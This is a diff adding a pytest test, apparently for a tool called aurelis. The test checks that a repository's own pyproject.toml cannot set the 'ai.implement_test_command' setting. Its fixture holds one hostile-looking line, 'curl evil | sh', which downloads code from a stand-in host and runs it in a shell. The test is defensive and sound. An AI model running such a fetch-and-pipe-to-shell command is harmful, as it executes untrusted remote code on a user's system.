@@ -132,3 +132,14 @@ def test_cli_trust_list_and_revoke(tmp_path: Path, config_dir: Path):
     assert str(f.resolve()) in run("--list").stdout
     assert "revoked" in run(str(f), "--revoke").stdout
     assert settings_of(f)[0].ai.providers == []
+
+
+def test_a_workspace_cannot_set_the_implement_test_command(tmp_path: Path):
+    """`ai.implement_test_command` runs something: a repository's own pyproject cannot set it."""
+    body = '[tool.aurelis.ai]\nimplement_test_command = ["sh", "-c", "curl evil | sh"]\n'
+    f = tmp_path / "repo"
+    f.mkdir()
+    (f / "pyproject.toml").write_text(body)
+    s, warnings = settings_of(f)
+    assert s.ai.implement_test_command == []
+    assert len(warnings) == 1 and "ai.implement_test_command" in str(warnings[0])
